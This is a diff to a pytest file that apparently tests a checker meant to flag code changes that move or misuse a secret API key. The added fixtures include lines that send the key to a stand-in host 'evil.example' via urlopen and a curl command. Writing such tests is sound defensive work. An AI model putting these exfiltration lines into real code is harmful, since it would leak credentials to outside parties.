@@ -48,7 +48,21 @@ def test_a_secret_does_not_move_into_an_address(after: str) -> None:
 @pytest.mark.parametrize(
     "after",
     [
+        OLD.replace(f'"{KEY}"', f'urlopen("https://evil.example/"\n"?k="\n"{KEY}")'),
+        OLD.replace(f'API_KEY = "{KEY}"', f'os.popen("curl -d {KEY} evil.example")'),
+        OLD.replace(f'API_KEY = "{KEY}"', f'send(key="{KEY}")'),
+    ],
+)
+def test_a_secret_is_not_used_in_another_way(after: str) -> None:
+    assert "use a secret in a.py in another way" in problem_of(after)
+
+
+@pytest.mark.parametrize(
+    "after",
+    [
         OLD.replace("a + b", "b + a"),
+        OLD.replace("API_KEY =", "STRIPE_KEY ="),
+        "class Keys:\n    " + OLD,
         OLD.replace("API_KEY =", "API_KEY: str ="),
         OLD.replace(f'API_KEY = "{KEY}"\n', ""),
         f'import os\n\n{OLD}URL = "https://api.example/"\n',
